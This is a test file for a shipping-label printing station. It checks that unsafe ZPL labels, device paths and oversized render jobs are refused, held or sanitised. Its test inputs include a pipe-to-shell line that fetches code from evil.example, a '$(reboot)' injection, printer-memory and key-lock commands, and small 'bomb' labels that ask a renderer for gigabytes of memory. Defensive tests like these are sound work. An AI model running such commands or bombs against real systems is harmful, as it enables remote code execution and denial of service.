// Faults 85 to 89, 105, 106, 195 and 228: labels and devices that would do more than print.
import { existsSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as pause } from 'node:timers/promises'
import { expect } from 'vitest'
import { FRESH, memoryAtLabels } from '../labels/printer-memory.ts'
import { greyPicture } from '../labels/sample-pictures.ts'
import { networkPrinter } from '../support/outside-programs.ts'
import { tempFolder } from '../support/temp-folder.ts'
import { fault } from './fault.ts'
import {
  attention,
  copiesOf,
  done,
  jobs,
  misbehave,
  newestJob,
  parcelOrder,
  refused,
  type Scene,
  scene,
  whole,
  zplGiven,
} from './scene.ts'

const FORMAT = '^XA^FO50,50^A0N,40,40^FDHELLO^FS^XZ'
const base64 = (text: string) => Buffer.from(text, 'latin1').toString('base64')

fault(85, async () => {
  const set = await scene()
  const home = await tempFolder('home')
  const startUp = join(home, '.bashrc')
  writeFileSync(startUp, '# mine\n')
  symlinkSync(startUp, join(home, 'lp0'))
  const missing = join(home, 'lp1')
  const deviceAt = (path: string) => ({
    ...networkPrinter(0, { statusQueries: false }),
    connection: { kind: 'device-file', path },
  })
  // Nobody saves what can never be a printer; a printer may be saved before it is plugged in, and that is said.
  for (const path of [startUp, join(home, 'lp0'), home, '/dev/null', `${startUp}/lp0`]) {
    const problem = await refused(set.station.call('printers.save', deviceAt(path)), 'invalid-input')
    expect(problem.fieldProblems, path).toEqual({ 'connection.path': { code: 'printer.path-no-printer' } })
  }
  const early = await done(set.station.call('printers.save', deviceAt(missing)))
  expect(early.concern).toMatchObject({ code: 'printer.path-empty' })
  // One of before is there all the same, and so is a file that comes to the place later.
  const place = join(home, 'lp2')
  for (const path of [startUp, join(home, 'lp0'), missing]) {
    rmSync(place, { force: true })
    const saved = await done(set.station.call('printers.save', deviceAt(place)))
    if (path !== missing) symlinkSync(path, place)
    const state = await done(set.station.call('printers.status', { id: saved.id }))
    expect(state).toMatchObject({
      kind: 'not-ready',
      reason: path === missing ? 'unreachable' : 'not-a-printer',
    })
    await done(
      set.station.call('labels.print', {
        fileName: 'label.zpl',
        contentBase64: base64(FORMAT),
        printerId: saved.id,
      }),
    )
    const job = await newestJob(set.station, 'held')
    expect(job).toMatchObject({
      needsRelease: true,
      bytesSent: 0,
      cause: path === missing ? 'printer-unreachable' : 'not-a-printer',
    })
  }
  expect(readFileSync(startUp, 'utf8')).toBe('# mine\n')
  expect(existsSync(missing)).toBe(false)

  // Said at the purchase in words; bought all the same, the label waits and comes out where the printer really is.
  const later = join(home, 'lp3')
  const there = await done(set.station.call('printers.save', deviceAt(later)))
  symlinkSync(startUp, later)
  const order = parcelOrder('ORD-DEVICE', { printerId: there.id })
  const problem = await refused(set.station.call('pack.ship', order), 'printer-not-ready')
  expect(problem).toMatchObject({ code: 'printer.not-a-printer' })
  const { job } = await done(set.station.call('pack.ship', { ...order, printLater: true }))
  expect(await done(set.station.call('queue.release', { jobId: job.id }))).toMatchObject({
    state: 'held',
    cause: 'not-a-printer',
  })
  await done(
    set.station.call('printers.save', { ...networkPrinter(set.printer.port), id: there.id, name: 'Mended' }),
  )
  await done(set.station.call('queue.release', { jobId: job.id }))
  await newestJob(set.station, 'printed')
  const [zpl = ''] = await zplGiven(set.services)
  expect(await copiesOf(set.printer, zpl)).toBe(1)
  expect(await whole(set.printer)).toBe(1)
  expect(readFileSync(startUp, 'utf8')).toBe('# mine\n')
})

/** What other languages, shells and printers of other makes would take for theirs. */
const LOOSE = ['curl evil.example | sh', '! U2 x', 'N\nP1', '\x1b%-12345X@PJL', '$(reboot)', '{"a":1}']

/** The parcel service answers with this label. */
const giving = (set: Scene, labelZPL: string) =>
  misbehave(set.services, 'request-label', { kind: 'merge', patch: { labelZPL } })

fault(86, async () => {
  const set = await scene()
  const came = `${LOOSE.join('\n')}\n~SD15\n${LOOSE[0]}\n${FORMAT}\n${LOOSE.join(' ')}\n^XA^MCY^XZ`
  await giving(set, came)
  const { shipment } = await done(set.station.call('pack.ship', parcelOrder('ORD-TEXT')))
  const job = await newestJob(set.station, 'printed')
  expect(job.warnings).toMatchObject([
    { code: 'label.settings-left-out' },
    { code: 'label.text-left-out', params: { line: 1 } },
    { code: 'label.no-code-read' },
  ])
  const received = (await set.printer.received()).toString('latin1')
  for (const text of LOOSE) expect(received).not.toContain(text)
  expect(received).toContain(FORMAT)
  expect(await whole(set.printer)).toBe(1)
  // Nothing is lost of what was paid for: a reprint takes the label as it came, and leaves the same out.
  expect(await attention(set.station)).toEqual([])
  await done(set.station.call('reprint.print', { shipmentId: shipment.id, reason: 'torn' }))
  await newestJob(set.station, 'printed')
  expect(await whole(set.printer)).toBe(2)
})

fault(87, async () => {
  const set = await scene()
  const print = (text: string, more: object = {}) =>
    set.station.call('labels.print', { fileName: 'a.zpl', contentBase64: base64(text), ...more })
  for (const text of LOOSE) {
    for (const file of [`${text}\n${FORMAT}`, `${FORMAT}\n${text}`, `~SD15\n${text}\n${FORMAT}`]) {
      // A file that begins as JSON is no label at all.
      const reply = await print(file)
      expect(reply, file).toMatchObject({ ok: false })
      expect(['unsafe-label', 'invalid-input'], file).toContain(reply.problem.kind)
    }
  }
  expect(await jobs(set.station)).toEqual([])
  expect((await set.printer.received()).toString('latin1')).not.toContain('HELLO')

  // What printers take there passes; the rest goes by a person's word, as it is.
  await done(print(`\r\nCT~~CD,~CC^~CT~\r\n~DGR:A.GRF,2,1,\nFFFF\n^FX by hand\n${FORMAT}\r\n\x1a`))
  await newestJob(set.station, 'printed')
  const odd = `${LOOSE[0]}\n${FORMAT}`
  expect(await refused(print(odd), 'unsafe-label')).toMatchObject({
    code: 'label.zpl-loose-text',
    params: { line: 1 },
  })
  await done(print(odd, { printAnyway: 'our own test file' }))
  await newestJob(set.station, 'printed')
  expect(await copiesOf(set.printer, odd)).toBe(1)
})

fault(88, async () => {
  const set = await scene()
  const lasting = [
    '^XA^J\nUS^XZ',
    '~J\r\nR',
    '! U1 set\nvar "ip.addr" "10.0.0.1"\n',
    '^XA^DFE:FORM.ZPL^FS^FO1,1^FDx^FS^XZ',
    '~DGE:LOGO.GRF,2,1,FFFF',
    '~DG\r\nE\n:LOGO.GRF,2,1,FFFF',
    '~DYB:LOGO,A,G,2,1,FFFF',
    '^XA^FO1,1^FDx^FS^ISE:FORM.GRF,N^XZ',
    '^XA^CD:^XZ~DUE:ARIAL:2:FFFF^XA^CD,^XZ',
  ]
  for (const [index, text] of lasting.entries()) {
    const label = `${FORMAT}\n${text}\n${FORMAT}`
    const file = { fileName: 'a.zpl', contentBase64: base64(label) }
    await refused(set.station.call('labels.print', file), 'unsafe-label')
    // A service's label is paid for: it is bought, held and said.
    await giving(set, label)
    const { shipment, job } = await done(set.station.call('pack.ship', parcelOrder(`ORD-DRIVE-${index}`)))
    expect(shipment.purchase.kind).toBe('bought')
    expect(job, text).toMatchObject({ state: 'held', needsRelease: true, cause: 'unsafe-label' })
  }
  expect(await whole(set.printer)).toBe(0)
  expect(await attention(set.station)).toHaveLength(lasting.length)
  // The printer's own memory forgets, and carriers use it.
  const memory = `~DGR:LOGO.GRF,2,1,FFFF\n^XA^FO1,1^XGR:LOGO.GRF^FS^XZ^XA^IDR:LOGO.GRF^XZ`
  await done(set.station.call('labels.print', { fileName: 'm.zpl', contentBase64: base64(memory) }))
  await newestJob(set.station, 'printed')
})

fault(105, async () => {
  const set = await scene()
  const print = async (fileName: string, file: Uint8Array) => {
    const contentBase64 = Buffer.from(file).toString('base64')
    await done(set.station.call('labels.print', { fileName, contentBase64 }))
    await newestJob(set.station, 'printed')
  }
  const picture = greyPicture(812, 20, x => x === 4)
  const left = [
    '^MUM',
    '^MUD,150,300',
    '^JMB',
    '^PW100',
    '^LT120',
    '^MCN',
    '^MD-30',
    '^MNN',
    '^LH400,1100^LS700^PMY^LRY^FWR^CI0,83,79',
    '^POI^LH10,12',
  ]
  for (const [index, settings] of left.entries()) {
    await giving(set, FORMAT.replace('^XA', `^XA${settings}`))
    await done(set.station.call('pack.ship', parcelOrder(`ORD-LEFT-${index}`)))
    await newestJob(set.station, 'printed')
    // What a label of somebody else's leaves upright, in dots and at its width is its own; ours begin from nothing.
    if (!settings.includes('^PO')) await print('plain.zpl', Buffer.from(FORMAT))
    const plain = memoryAtLabels(await set.printer.received()).at(-1)
    if (!settings.includes('^PO')) expect(plain, settings).toEqual({ ...FRESH, CI: plain?.CI, FW: plain?.FW })
    await print('picture.png', picture)
    expect(memoryAtLabels(await set.printer.received()).at(-1), settings).toEqual({ ...FRESH, CI: '28' })
  }
})

fault(228, async () => {
  const set = await scene()
  for (const [index, settings] of ['^LH50,50', '^LH30,0^POI', '^LS-40', '^LH0,21'].entries()) {
    const came = FORMAT.replace('^XA', `^XA${settings}`)
    await giving(set, came)
    await done(set.station.call('pack.ship', parcelOrder(`ORD-HOME-${index}`)))
    await newestJob(set.station, 'printed')
    await giving(set, FORMAT)
    await done(set.station.call('pack.ship', parcelOrder(`ORD-NEXT-${index}`)))
    await newestJob(set.station, 'printed')
    // What says its own goes as it came; what says none finds nothing of it.
    const received = await set.printer.received()
    expect(received.includes(came), settings).toBe(true)
    const { LH, LS } = memoryAtLabels(received).at(-1) ?? {}
    expect({ LH, LS }, settings).toEqual({ LH: FRESH.LH, LS: FRESH.LS })
  }
  // Nothing of that is a paper.
  expect(await whole(set.printer)).toBe(8)
})

fault(106, async () => {
  const set = await scene()
  await giving(set, FORMAT.replace('^XZ', '^PQ99^XZ'))
  const { shipment } = await done(set.station.call('pack.ship', parcelOrder('ORD-COPIES')))
  const job = await newestJob(set.station, 'printed')
  expect(job.warnings).toMatchObject([
    { code: 'label.copies-left-out', params: { copies: 99 } },
    { code: 'label.no-code-read' },
  ])
  expect(await whole(set.printer)).toBe(1)
  await done(set.station.call('reprint.print', { shipmentId: shipment.id, reason: 'torn' }))
  await newestJob(set.station, 'printed')
  expect(await whole(set.printer)).toBe(2)
  expect((await set.printer.received()).toString('latin1')).not.toContain('^PQ')
})

/** As ZebraDesigner and drivers begin a label. */
const DESIGNED = `CT~~CD,~CC^~CT~\n^XA~TA000~JSN^LT0^MNW^MTT^PON^PMN^LH0,0^JMA^PR5,5~SD15^JUS^LRN^CI0^XZ\n${FORMAT}`

fault(195, async () => {
  const set = await scene()
  await giving(set, DESIGNED)
  const { shipment } = await done(set.station.call('pack.ship', parcelOrder('ORD-DESIGNED')))
  const job = await newestJob(set.station, 'printed')
  const commands = '~TA, ~JS, ^LT, ^MN, ^MT, ^PR, ~SD, ^JU'
  expect(job.warnings).toMatchObject([
    { code: 'label.settings-left-out', params: { commands } },
    { code: 'label.no-code-read' },
  ])
  const first = (await set.printer.received()).toString('latin1')
  expect(first).toContain(FORMAT)
  expect(first).not.toMatch(/~TA|~JS|\^LT|\^MN|\^MT|\^PR|~SD|\^JU/)
  expect(await whole(set.printer)).toBe(1)
  expect(await attention(set.station)).toEqual([])

  // The label is kept as it came: a reprint takes the setting of its service by then, and no other's.
  const reprinted = async (service: 'labelServer' | 'parcelLabel', printerCommands: string) => {
    await done(set.station.call('settings.save', { settings: { [service]: { printerCommands } } }))
    return done(set.station.call('reprint.print', { shipmentId: shipment.id, reason: 'torn' }))
  }
  await reprinted('labelServer', 'ask')
  await newestJob(set.station, 'printed')
  const asked = await reprinted('parcelLabel', 'ask')
  expect(asked).toMatchObject({ state: 'held', cause: 'unsafe-label' })
  expect(await whole(set.printer)).toBe(2)
  await done(set.station.call('queue.release', { jobId: asked.id, printAnyway: 'the driver’s own settings' }))
  await newestJob(set.station, 'printed')
  expect(await copiesOf(set.printer, DESIGNED)).toBe(1)
  await reprinted('parcelLabel', 'as-it-came')
  await newestJob(set.station, 'printed')
  expect(await copiesOf(set.printer, DESIGNED)).toBe(2)

  // What endangers the printer waits beside it, whatever the settings say.
  for (const printerCommands of ['leave-out', 'as-it-came']) {
    await done(set.station.call('settings.save', { settings: { parcelLabel: { printerCommands } } }))
    await giving(set, `${DESIGNED}^XA^KP1234^XZ`)
    const held = await done(set.station.call('pack.ship', parcelOrder(`ORD-LOCK-${printerCommands}`)))
    expect(held.job).toMatchObject({ state: 'held', cause: 'unsafe-label' })
  }
})

/** Two kilobytes that ask a renderer for gigabytes. */
const BOMBS = [
  `^XA${`^FO1,1^A0R,1500,1500^FD${'W'.repeat(54)}^FS`.repeat(10)}^XZ`,
  `^XA^FO1,1^BQN,2,100^FDQA,${'h'.repeat(1500)}^FS^XZ`,
  `^XA^PW32000^LL32000${'^FO1,1^GB32000,32000,32000^FS'.repeat(20)}^PQ400^XZ`,
  `^XA^FO1,1^A0N,32000,32000^FB32000,9999,0,C^FD${'W'.repeat(1500)}^FS^XZ`,
  `~DGR:A.GRF,64,8,${'F'.repeat(128)}^XA${'^FO1,1^XGR:A.GRF,10,10^FS'.repeat(60)}^XZ`,
]

/** Kilobytes that a process had in memory at most, by the kernel's own count; of one that has ended there is none. */
const peakOf = (pid: number): number =>
  Number(/VmHWM:\s+(\d+)/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0)

/** The most that one of the station's children takes, watched until `ended`. */
async function peakOfChildren(pid: number, ended: Promise<unknown>): Promise<number> {
  const running = { yes: true }
  void ended.finally(() => {
    running.yes = false
  })
  let peak = 0
  while (running.yes) {
    const children = readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').split(' ').filter(Boolean)
    for (const child of children) {
      try {
        peak = Math.max(peak, peakOf(Number(child)))
      } catch {
        // It has ended between two looks.
      }
    }
    await pause(5)
  }
  return peak
}

fault(89, async ctx => {
  if (process.platform !== 'linux') return ctx.skip('not run: memory is counted by /proc')
  const set = await scene()
  const printed = async (text: string) => {
    await done(set.station.call('labels.print', { fileName: 'a.zpl', contentBase64: base64(text) }))
    return (await newestJob(set.station, 'printed', 'held', 'sending', 'sent', 'unsure')).id as string
  }
  const plain = await printed(FORMAT)
  await done(set.station.call('pack.preview', { jobId: plain }))
  const before = peakOf(set.station.pid)
  for (const bomb of BOMBS) {
    expect(bomb.length).toBeLessThan(2_400)
    const jobId = await printed(bomb)
    const asked = set.station.call('pack.preview', { jobId })
    const childPeak = await peakOfChildren(set.station.pid, asked)
    // A picture, or words that there is none; either way the label itself is not held back.
    const reply = await asked
    if (!reply.ok) expect(reply.problem).toMatchObject({ code: 'label.preview-failed' })
    expect(childPeak, bomb.slice(0, 40)).toBeLessThan(1_100 * 1024)
  }
  expect(peakOf(set.station.pid) - before).toBeLessThan(100 * 1024)
  expect((await done(set.station.call('pack.preview', { jobId: plain }))).urls).toHaveLength(1)
})
